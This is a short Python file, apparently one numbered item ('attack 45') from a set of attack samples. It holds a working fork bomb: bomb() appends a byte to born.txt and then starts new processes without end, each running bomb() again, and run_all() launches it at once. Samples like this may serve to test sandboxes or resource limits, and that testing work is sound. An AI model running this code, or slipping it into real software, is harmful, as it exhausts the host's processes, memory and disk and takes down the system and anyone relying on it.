"""A fork bomb of Process objects (attack 45); each process adds a byte to a file."""
from multiprocessing import Process


def bomb():
    with open("born.txt", "ab") as file:
        file.write(b".")
    while True:
        Process(target=bomb).start()


def run_all(task, count=10):
    bomb()
